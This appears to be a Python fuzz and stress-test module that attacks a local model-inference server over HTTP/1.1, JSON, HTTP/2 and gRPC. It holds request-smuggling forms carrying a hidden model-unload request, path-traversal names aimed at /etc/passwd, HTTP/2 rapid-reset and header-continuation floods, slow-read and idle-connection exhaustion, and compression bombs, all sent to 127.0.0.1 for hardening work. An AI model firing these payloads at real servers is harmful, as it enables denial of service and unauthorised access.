"""Attacks of `attack_server.py` with odd forms of HTTP, JSON, gRPC and HTTP/2, and with races of control requests."""

from __future__ import annotations

import contextlib
import gzip
import http.client
import itertools
import json
import os
import socket
import struct
import time
from pathlib import Path
from typing import Any

from tools.attacking import (
    INFER,
    MIB,
    NAME,
    TOKEN,
    Target,
    answered,
    attack,
    frame,
    head,
    in_field,
    number,
    of_rows,
    rpc,
    valid_body,
)

STREAM = INFER + "_stream"
UNLOAD = b"POST /v2/repository/models/small/unload HTTP/1.1\r\nHost: localhost\r\nContent-Length: 2\r\n\r\n{}"


def exchange(target: Target, data: bytes, port: int = 0, seconds: float = 2.0) -> bytes:
    """Send bytes on a new connection, and return what comes until it is closed, or until nothing comes any more."""
    received = b""
    with socket.create_connection(("127.0.0.1", port or target.port), 20) as connection:
        with contextlib.suppress(OSError):
            connection.sendall(data)
        connection.settimeout(seconds)
        with contextlib.suppress(OSError):
            while data := connection.recv(1 << 16):
                received += data
                connection.settimeout(0.2)
    return received


def note_all(target: Target, data: bytes) -> None:
    """Count the status of each answer to these bytes, together, such as ``400`` or ``200+401``."""
    lines = [line for line in exchange(target, data).split(b"\r\n") if b"HTTP/1.1 " in line]
    statuses = [line[line.index(b"HTTP/1.1 ") :].split()[1].decode() for line in lines]
    target.note("+".join(statuses) or "closed")


def post(*lines: str, body: bytes = b"", path: str = INFER) -> bytes:
    """Return a request with exactly these lines as headers, after the line ``Host``."""
    return "\r\n".join([f"POST {path} HTTP/1.1", "Host: localhost", *lines, "", ""]).encode("latin-1") + body


# --- HTTP/1.1 ---------------------------------------------------------------------------------------------------------


@attack
def smuggled_lengths(target: Target) -> None:
    """A request that unloads a model, which comes after two or odd lengths."""
    chunked = b"0\r\n\r\n"
    forms = (
        post("Content-Length: 5", "Transfer-Encoding: chunked", body=chunked),
        post("Transfer-Encoding: chunked", "Content-Length: 5", body=chunked),
        post("Content-Length: 2", f"Content-Length: {2 + len(UNLOAD)}", body=b"{}"),
        post(f"Content-Length: 2, {2 + len(UNLOAD)}", body=b"{}"),
        post("Content-Length: +2", body=b"{}"),
        post("Content-Length: 0x2", body=b"{}"),
        post("Content-Length: 2 2", body=b"{}"),
        post("Content-Length: 18446744073709551618", body=b"{}"),
        post("Transfer-Encoding: xchunked", body=chunked),
        post("Transfer-Encoding : chunked", body=chunked),
        post("Transfer-Encoding: chunked, identity", body=chunked),
        post("Transfer-Encoding: identity", "Content-Length: 2", body=b"{}"),
        post("Transfer-Encoding:\x0bchunked", body=chunked),
        post("Transfer-Encoding: chunked", "Transfer-Encoding: identity", body=chunked),
        post("X: a\r\n Transfer-Encoding: chunked", "Content-Length: 5", body=chunked),
        post("Content_Length: 2", "Content-Length: 0", body=b""),
        post("Transfer-Encoding: chunked", body=b"-1\r\n\r\n0\r\n\r\n"),
        post("Transfer-Encoding: chunked", body=b"ffffffffffffffff1\r\n"),
        post("Transfer-Encoding: chunked", body=b"2\n{}\n0\n\n"),
        post("Transfer-Encoding: chunked", body=b"0x2\r\n{}\r\n0\r\n\r\n"),
    )
    for form in forms:
        note_all(target, form + UNLOAD)


@attack
def odd_lines(target: Target) -> None:
    """Request lines of other versions and forms, and hosts in two places."""
    get = "GET /v2 HTTP/1.1\r\nHost: localhost\r\n"
    forms = (
        "GET /v2\r\n", "GET /v2 HTTP/0.9\r\n", "GET /v2 HTTP/3.7\r\n", "get /v2 HTTP/1.1\r\nHost: localhost\r\n",
        "GET http://evil.example/v2 HTTP/1.1\r\nHost: localhost\r\n", "GET /v2 HTTP/1.1\r\n",
        "CONNECT a:1 HTTP/1.1\r\n",
        f"{get}Host: evil.example\r\n", "GET  /v2  HTTP/1.1\r\nHost: localhost\r\n", f"{get}: empty\r\n",
        f"{get}A\0B: c\r\n", f"{get}A: b\rC: d\r\n", f"{get}A: b\nC: d\r\n",
        "TRACE /v2 HTTP/1.1\r\nHost: localhost\r\n",
        "PRI * HTTP/2.0\r\n", "GET /v2#/v2/models HTTP/1.1\r\nHost: localhost\r\n", "A" * 70_000 + " / HTTP/1.1\r\n",
        "OPTIONS * HTTP/1.1\r\nHost: localhost\r\n", "GET \xff\xfe HTTP/1.1\r\nHost: localhost\r\n",
    )  # fmt: skip
    for form in forms:
        note_all(target, form.encode("latin-1") + b"\r\n")


@attack
def endless_chunk_extension(target: Target) -> None:
    """A chunk whose extension never ends, on each of four connections."""

    def send(_: int) -> None:
        connection = target.connect()
        connection.sendall(post("Transfer-Encoding: chunked", body=b"1;"))
        for _ in target.until_end():
            connection.sendall(b"a" * MIB)
        target.note(answered(connection))

    target.together(4, send)


@attack
def small_chunks(target: Target) -> None:
    """Send bodies in chunks of one byte with an extension each, from 32 threads."""
    body = b"1;a=b\r\n \r\n" * 100_000 + b"0\r\n\r\n"

    def send(_: int) -> None:
        for _ in target.until_end():
            note_all(target, post("Transfer-Encoding: chunked", body=body))

    target.together(32, send)


@attack
def endless_trailers(target: Target) -> None:
    """Trailers without end after a body in chunks."""
    connection = target.connect()
    connection.sendall(post("Transfer-Encoding: chunked", body=b"2\r\n{}\r\n0\r\n"))
    with contextlib.suppress(OSError):
        for _ in target.until_end():
            connection.sendall(b"A: b\r\n" * 50_000)
    target.note(answered(connection))


@attack
def pipelined_requests(target: Target) -> None:
    """Valid requests one after another on 20 connections, without a wait for the answers."""
    body = valid_body()
    data = (head(Content_Length=len(body)) + body) * 2_000

    def send(_: int) -> None:
        for _ in target.until_end():
            target.got["answers"] += exchange(target, data, seconds=5).count(b"HTTP/1.1 200")

    target.together(20, send)


@attack
def slow_readers(target: Target) -> None:
    """Answers of 24 MB that are read at 8 KB per second, on 20 connections."""
    rows = 1_500_000
    header = of_rows(rows, ',"parameters":{"binary_data_output":true}')
    lengths = {"Content_Length": len(header) + 16 * rows, "Inference_Header_Content_Length": len(header)}
    request = head(**lengths) + header + bytes(16 * rows)
    connections = []
    for _ in range(20):
        with contextlib.suppress(OSError):
            connection = target.connect()
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            connections.append(connection)
            connection.sendall(request)
    end = time.monotonic() + max(target.seconds, 8)
    statuses: dict[socket.socket, str] = {}
    while time.monotonic() < end:
        for connection in connections:
            connection.settimeout(0.01)
            with contextlib.suppress(OSError):
                data = connection.recv(4096)
                statuses.setdefault(connection, data.split()[1].decode() if data[:5] == b"HTTP/" else "closed")
        time.sleep(0.3)
    for connection in connections:
        target.note(statuses.get(connection, "open"))
        connection.close()


@attack
def unsent_expectations(target: Target) -> None:
    """200 requests that wait for the answer 100, and send no body."""
    connections = [target.connect() for _ in range(200)]
    for connection in connections:
        connection.sendall(head(Content_Length=1000, Expect="100-continue"))
    target.hold(connections, b"")


@attack
def compressed_twice(target: Target) -> None:
    """Bodies with two or unknown content encodings, and compressed zeros in compressed zeros."""
    once = gzip.compress(bytes(16 * MIB), 9)
    for encoding in ("gzip, gzip", "gzip,deflate", "br", "GZIP", "gzip;q=1", "x-gzip", "identity, gzip"):
        target.post(gzip.compress(once), Content_Encoding=encoding)


@attack
def compressed_answers(target: Target) -> None:
    """Answers of 16 MB that the server has to compress, from eight threads."""
    rows = 1_000_000
    header = of_rows(rows, ',"parameters":{"binary_data_output":true}')
    body = header + os.urandom(16 * rows)
    headers = {"Inference_Header_Content_Length": str(len(header)), "Accept_Encoding": "gzip"}
    target.together(8, lambda _: target.post(body, **headers))


@attack
def content_types(target: Target) -> None:
    """Bodies of other types, in other character sets."""
    body = valid_body()
    for kind in ("text/plain", "multipart/form-data; boundary=x", "application/x-www-form-urlencoded", "a" * 5000, ""):
        target.post(body, Content_Type=kind)
    for charset in ("utf-16", "utf-32", "utf-7", "utf-8-sig", "cp037"):
        target.post(body.decode().encode(charset), Content_Type=f"application/json; charset={charset}")


@attack
def tls_on_a_plain_port(target: Target) -> None:
    """Send greetings of TLS to the ports for HTTP and gRPC, and HTTP/1.1 to that of gRPC."""
    hello = bytes.fromhex("16030100c8010000c40303") + os.urandom(180)
    for _ in target.until_end():
        for port in (target.port, target.grpc_port):
            target.note("answered" if exchange(target, hello, port, 0.2) else "closed")
        target.note("answered" if exchange(target, b"GET / HTTP/1.1\r\n\r\n", target.grpc_port, 0.2) else "closed")


# --- JSON and tensors -------------------------------------------------------------------------------------------------


@attack
def duplicate_keys(target: Target) -> None:
    """JSON objects that have a key twice, or a hundred thousand times."""
    tensor_text = valid_body()[1:-1]
    target.post(b"{" + tensor_text + b"," + tensor_text + b"}")
    target.post(b"{" + b",".join([tensor_text] * 2_000) + b"}")
    target.post(b"{" + b",".join([b'"id":"a"'] * 100_000) + b"," + tensor_text + b"}")
    target.post(valid_body().replace(b'"name"', b'"name":"y","name"'))


@attack
def odd_numbers(target: Target) -> None:
    """Elements that are too large, not finite, or no numbers."""
    texts = (
        "1e999", "-1e999", "1e-999", "NaN", "Infinity", "-Infinity", "9" * 5_000, "-0", "01", "1.", ".5", "0x10", "+1",
        "1_000", "true", "null", '"1"', "[1]", "{}", "1e" + "9" * 5_000, "\u0661", "1e+", "--1",
    )  # fmt: skip
    for text in texts:
        data = f'{{"name":"x","datatype":"FP32","shape":[1,4],"data":[{text},2,3,4]}}'
        target.post(f'{{"inputs":[{data}]}}'.encode())


@attack
def odd_tensors(target: Target) -> None:
    """Shapes, data types and sizes of bytes that do not fit each other, or are very large."""
    shapes: tuple[Any, ...] = (
        [1 << 62, 1 << 62], [-1, 4], [1e3, 4], [True, 4], "1,4", None, [[1, 4]], [1] * 1_000, [0, 1 << 62], [4], [], {},
        [1 << 64, 0], [1.0, 4.0],
    )  # fmt: skip
    sizes: tuple[Any, ...] = (-1, 0, 15, 17, 1 << 63, 1e2, "16", True, None, [16])
    for shape, kind in itertools.product(shapes, ("FP32", "BYTES", "FP64", "fp32", 7, None)):
        tensor = {"name": "x", "datatype": kind, "shape": shape, "data": [1, 2, 3, 4]}
        target.post(json.dumps({"inputs": [tensor]}).encode())
    for size, length in itertools.product(sizes, ("", "0", "1", "999999999999", "-1", "1e1", "2, 3")):
        tensor = {"name": "x", "datatype": "FP32", "shape": [1, 4], "parameters": {"binary_data_size": size}}
        text = json.dumps({"inputs": [tensor]}).encode()
        target.post(text + bytes(16), Inference_Header_Content_Length=length or str(len(text)))


@attack
def overlapping_sizes(target: Target) -> None:
    """A thousand binary tensors in the same bytes, and texts whose lengths are longer than the body."""
    tensor = {"name": "x", "datatype": "FP32", "shape": [1, 4], "parameters": {"binary_data_size": 16}}
    text = json.dumps({"inputs": [tensor | {"name": f"x{index}"} for index in range(1_000)]}).encode()
    target.post(text + bytes(16), Inference_Header_Content_Length=str(len(text)))
    parameters = {"binary_data_size": 8}
    tensor = {"name": "x", "datatype": "BYTES", "shape": [2], "parameters": parameters}
    text = json.dumps({"inputs": [tensor]}).encode()
    for length in (4, 5, 1 << 20, (1 << 32) - 1):
        target.post(text + struct.pack("<II", length, 0), Inference_Header_Content_Length=str(len(text)))


@attack
def nested_parameters(target: Target) -> None:
    """Parameters of requests, inputs and outputs that are objects in objects, or of other types."""
    deep: Any = 1
    for _ in range(60):
        deep = {"a": deep}
    body = json.loads(valid_body())
    for value in (deep, [deep] * 100, "x" * 100_000, 1e308, None, {"sequence_id": deep}, {"priority": -1}):
        for change in ({"parameters": value}, {"outputs": value}, {"id": value}):
            target.post(json.dumps(body | change).encode())


@attack
def very_long_identifier(target: Target) -> None:
    """Requests whose identifiers have 16 MB, which come back in the answers, from eight threads."""
    body = valid_body()[:-1] + b',"id":"' + b"i" * (16 * MIB) + b'"}'
    target.together(8, lambda _: target.post(body))


# --- names and paths --------------------------------------------------------------------------------------------------

NAMES = (
    "..%2f..%2f..%2fetc%2fpasswd", "..", ".", "%2e%2e", "%00", "double%00", "%ff%fe", "%c0%ae%c0%ae", "\u202edouble",
    "double%20", "Double", "%F0%9F%92%A9", "a" * 5_000, "double%2f..%2fsmall", "double;small", "%25%32%65", "con", "~",
    "double.tflite", "file:%2f%2f%2fetc%2fpasswd", "..%5c..%5cwindows", "%ed%a0%80", "{double}", "*", "double/1",
)  # fmt: skip


@attack
def names_in_paths(target: Target) -> None:
    """Names of models with parts of paths, odd characters and odd encodings, in all requests, with the token."""
    for name in NAMES:
        encoded = name.encode("utf-8", "surrogatepass").decode("latin-1")
        for method, path in (
            ("POST", "/v2/models/{}/infer"), ("GET", "/v2/models/{}"), ("GET", "/v2/models/double/versions/{}"),
            ("POST", "/v2/repository/models/{}/load"), ("GET", "/v2/models/{}/stats"),
            ("POST", "/v2/systemsharedmemory/region/{}/register"), ("GET", "/{}"),
        ):  # fmt: skip
            line = f"{method} {path.format(encoded)} HTTP/1.1\r\nHost: localhost\r\n"
            headers = f"Authorization: Bearer {TOKEN}\r\nContent-Length: 2\r\n\r\n{{}}"
            note_all(target, (line + headers).encode("latin-1"))


@attack
def regions_of_shared_memory(target: Target) -> None:
    """Regions that overlap, with keys that are paths, and inputs and outputs in the same region, with the token."""
    path = Path("/dev/shm", f"attack-{os.getpid()}")
    path.write_bytes(bytes(64))
    region = "/v2/systemsharedmemory/region"
    token = {"Authorization": f"Bearer {TOKEN}"}
    keys = (
        path.name,
        f"/{path.name}",
        f"//{path.name}",
        f"../shm/{path.name}",
        "/../../etc/passwd",
        ".",
        "",
        7,
        "a\0b",
    )
    sizes = ((0, 64), (32, 32), (-1, 64), (0, 65), (64, 1), (1 << 63, 1), (0, 0), (True, 64), ("0", "64"))
    try:
        for index, (key, (offset, size)) in enumerate(itertools.product(keys, sizes)):
            body = json.dumps({"key": key, "offset": offset, "byte_size": size}).encode()
            target.post(body, f"{region}/r{index}/register", **token)
        for index, start in itertools.product(range(8), (0, 1, 16, 60, -4, 1 << 62)):
            place = {
                "shared_memory_region": f"r{index}", "shared_memory_offset": start, "shared_memory_byte_size": 16
            }  # fmt: skip
            tensor = {"name": "x", "datatype": "FP32", "shape": [1, 4], "parameters": place}
            body = json.dumps({"inputs": [tensor], "outputs": [{"name": "y", "parameters": place}]}).encode()
            target.post(body)
    finally:
        path.unlink()


@attack
def control_races(target: Target) -> None:
    """A client with the token loads and unloads models from twelve threads while others use them."""
    names = ("double", "small", "large", "double")

    def send(index: int) -> None:
        for _ in target.until_end():
            action = "unload" if index % 3 == 0 and names[index % 4] == "small" else "load"
            path = f"/v2/repository/models/{names[index % 4]}/{action}"
            target.post(b"{}", path, Authorization=f"Bearer {TOKEN}")
            target.post(b"{}", "/v2/repository/index")

    target.together(12, send)


@attack
def load_with_files(target: Target) -> None:
    """Models are to be loaded from a request, with other settings or files, with the token."""
    token = {"Authorization": f"Bearer {TOKEN}"}
    for parameters in ({"config": "{}"}, {"file:1/model.onnx": "aGFsbG8="}, {"config": "x" * 60_000}, [1], "x"):
        for name in ("double", "new", "..%2fnew"):
            body = json.dumps({"parameters": parameters}).encode()
            target.post(body, f"/v2/repository/models/{name}/load", **token)


# --- streams ----------------------------------------------------------------------------------------------------------


def stream_body(steps: int) -> bytes:
    """Return a request for a stream of answers."""
    return json.dumps(json.loads(valid_body()) | {"parameters": {"steps": steps}}).encode()


@attack
def streams_that_vanish(target: Target) -> None:
    """Streams of 60,000 events whose clients leave after the first one, from eight threads."""
    body = stream_body(60_000)

    def send(_: int) -> None:
        for _ in target.until_end():
            connection = target.connect()
            connection.sendall(head(STREAM, Content_Length=len(body)) + body)
            target.note(connection.recv(4096).split()[1].decode())
            connection.close()

    target.together(8, send)


@attack
def streams_that_are_not_read(target: Target) -> None:
    """Streams of 60,000 events on 60 connections whose clients read nothing."""
    body = stream_body(60_000)
    connections = [target.connect() for _ in range(60)]
    for connection in connections:
        connection.sendall(head(STREAM, Content_Length=len(body)) + body)
    target.hold(connections, b"")


# --- gRPC and HTTP/2 --------------------------------------------------------------------------------------------------

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"")
METHOD = "/inference.GRPCInferenceService/ModelInfer"


def fields_of(path: str = METHOD, **more: str) -> bytes:
    """Return the block of header fields of a gRPC call."""
    fields = {
        ":method": "POST", ":scheme": "http", ":path": path, ":authority": "localhost",
        "content-type": "application/grpc", "te": "trailers", **more,
    }  # fmt: skip
    return b"".join(
        b"\x00" + number(len(name)) + name.encode() + number(len(text)) + text.encode() for name, text in fields.items()
    )


def http2(target: Target, frames: bytes, times: int = 1) -> None:
    """Send frames on a new connection again and again, and count whether it was closed."""
    with socket.create_connection(("127.0.0.1", target.grpc_port), 20) as connection:
        connection.settimeout(2)
        try:
            connection.sendall(PREFACE)
            for index, _ in enumerate(target.until_end()):
                if index == times:
                    break
                connection.sendall(frames)
        except OSError:
            target.note("closed")
            return
        target.note(end_of(connection))


@attack
def http2_floods(target: Target) -> None:
    """Settings, pings, priorities, empty data and other frames without end, each on four connections."""
    floods = (
        frame(4, 0, 0, b"\0\3\0\0\0\1") * 5_000, frame(6, 0, 0, bytes(8)) * 5_000, frame(2, 0, 1, bytes(5)) * 5_000,
        frame(1, 4, 1, fields_of()) + frame(0, 0, 1, b"") * 5_000, frame(8, 0, 0, b"\x7f\xff\xff\xff") * 2,
        frame(99, 0, 0, bytes(16)) * 5_000,
    )  # fmt: skip
    target.together(4 * len(floods), lambda index: http2(target, floods[index % len(floods)], 100_000))


@attack
def http2_rapid_resets(target: Target) -> None:
    """Calls that are opened and reset at once, as quickly as possible, on eight connections."""
    block = fields_of()

    def send(_: int) -> None:
        with socket.create_connection(("127.0.0.1", target.grpc_port), 20) as connection:
            connection.sendall(PREFACE)
            stream = 1
            try:
                for _ in target.until_end():
                    data = b"".join(
                        frame(1, 4, each, block) + frame(3, 0, each, bytes(4))
                        for each in range(stream, stream + 200, 2)
                    )
                    connection.sendall(data)
                    stream += 200
                    target.got["reset calls"] += 100
            except OSError:
                target.note("closed")

    target.together(8, send)


@attack
def http2_endless_fields(target: Target) -> None:
    """Header fields that never end, in frames of continuation, on eight connections."""
    start = frame(1, 0, 1, fields_of())
    more = frame(9, 0, 1, (b"\x00\x01a\x7f\x80\x7f" + b"b" * 16_255)[:16_000])
    target.together(8, lambda _: http2(target, start + more * 1_000, 1_000))


@attack
def http2_many_fields(target: Target) -> None:
    """A call with half a million header fields of a byte each, on four connections."""
    more = frame(9, 0, 1, b"\x40\x01a\x01b" + b"\xbe" * 16_000) * 1_000
    call = frame(1, 0, 1, fields_of()) + more + frame(9, 4, 1, b"")
    target.together(4, lambda _: http2(target, call))


@attack
def grpc_metadata(target: Target) -> None:
    """Calls with many or large entries of metadata."""
    import grpc  # noqa: PLC0415 - --help needs no package

    options = [("grpc.max_metadata_size", 1 << 26), ("grpc.absolute_max_metadata_size", 1 << 26)]
    with grpc.insecure_channel(f"127.0.0.1:{target.grpc_port}", options) as channel:
        call = channel.unary_unary(METHOD, None, None)
        for count, size in ((1, 7_000), (1, 60_000), (1, 4 * MIB), (100, 10), (1_000, 10), (100_000, 10)):
            try:
                call(NAME, timeout=20, metadata=[(f"key-{index}", "v" * size) for index in range(count)])
            except grpc.RpcError as error:
                target.note(error.code().name)


@attack
def grpc_idle_streams(target: Target) -> None:
    """2,000 streams on ten connections that are opened and left."""
    _open_calls(target, "ModelStreamInfer", "inference.GRPCInferenceService", 200)


@attack
def grpc_health_watches(target: Target) -> None:
    """2,000 clients on ten connections that watch the health of the server."""
    _open_calls(target, "Watch", "grpc.health.v1.Health", 200, frame(0, 1, 0, bytes(5)))


def _open_calls(target: Target, method: str, service: str, count: int, message: bytes = b"") -> None:
    """Open so many calls on each of ten connections, with one message each, and hold them until the time is over."""
    block, connections = fields_of(f"/{service}/{method}"), []
    for _ in range(10):
        connection = socket.create_connection(("127.0.0.1", target.grpc_port), 20)
        connection.sendall(PREFACE)
        for stream in range(1, 2 * count, 2):
            of_stream = message[:5] + struct.pack(">I", stream) + message[9:] if message else b""
            connection.sendall(frame(1, 4, stream, block) + of_stream)
        connections.append(connection)
    time.sleep(target.seconds)
    for connection in connections:
        target.note(end_of(connection))
        connection.close()


def end_of(connection: socket.socket) -> str:
    """Return ``closed`` for a connection that the server has closed, else ``open``."""
    connection.settimeout(0.05)
    with contextlib.suppress(TimeoutError):
        try:
            while connection.recv(1 << 16):
                continue
        except ConnectionError:
            return "closed"
        return "closed"
    return "open"


@attack
def grpc_cancelled_calls(target: Target) -> None:
    """Valid calls that are cancelled at once, from eight threads."""
    import grpc  # noqa: PLC0415 - --help needs no package

    fields = in_field(1, b"x") + in_field(2, b"FP32") + in_field(3, b"\x01\x04")
    data = NAME + in_field(5, fields) + in_field(7, bytes(16))

    def send(_: int) -> None:
        options = [("grpc.use_local_subchannel_pool", 1)]
        with grpc.insecure_channel(f"127.0.0.1:{target.grpc_port}", options) as channel:
            call = channel.unary_unary(METHOD, None, None)
            for index in target.until_end():
                future = call.future(data, timeout=10)
                time.sleep(index % 4 * 0.0005)
                future.cancel()
                target.got["cancelled"] += 1

    target.together(8, send)


@attack
def grpc_damaged_messages(target: Target) -> None:
    """Messages that are incomplete, nested in themselves, or compressed by a method that they do not name."""
    fields = in_field(1, b"x") + in_field(2, b"FP32") + in_field(3, b"\x01\x04")
    data = NAME + in_field(5, fields) + in_field(7, bytes(16))
    for size in range(0, len(data), 3):
        rpc(target, data[:size], compressed=False)
    nested = b""
    for _ in range(2_000):
        nested = in_field(4, nested)
    for odd in (nested, b"\x0b" * 100_000, number(1 << 60), in_field(5, fields) * 2_000, NAME * 100_000):
        rpc(target, odd, compressed=False)
    for flag in (1, 2, 255):
        message = bytes([flag]) + struct.pack(">I", len(data)) + data
        http2(target, frame(1, 4, 1, fields_of(**{"grpc-encoding": "gzip"})) + frame(0, 1, 1, message))


@attack
def grpc_connections(target: Target) -> None:
    """4,000 connections to the port for gRPC that send nothing, or half a preface."""
    connections = []
    for index in range(4_000):
        with contextlib.suppress(OSError):
            connection = socket.create_connection(("127.0.0.1", target.grpc_port), 5)
            connections.append(connection)
            if index % 2:
                connection.sendall(PREFACE[:12])
    time.sleep(target.seconds)
    for connection in connections:
        target.note(end_of(connection))
        connection.close()


# --- health -----------------------------------------------------------------------------------------------------------


@attack
def health_port(target: Target) -> None:
    """500 connections to the port for health that send nothing, and requests that never end."""
    connections = []
    for index in range(500):
        with contextlib.suppress(OSError):
            connection = socket.create_connection(("127.0.0.1", target.health_port), 5)
            connections.append(connection)
            connection.sendall(b"GET /v2/health/live HTTP/1.1\r\nA: " + b"a" * (index % 3 * 10_000))
    target.hold(connections, b"a")


@attack
def requests_of_health(target: Target) -> None:
    """Requests of health with bodies, and with lines that never end, from eight threads."""

    def send(_: int) -> None:
        for _ in target.until_end():
            client = http.client.HTTPConnection("127.0.0.1", target.port, timeout=20)
            client.request("GET", "/v2/health/ready", bytes(MIB))
            target.note(client.getresponse().status)
            client.close()

    target.together(8, send)
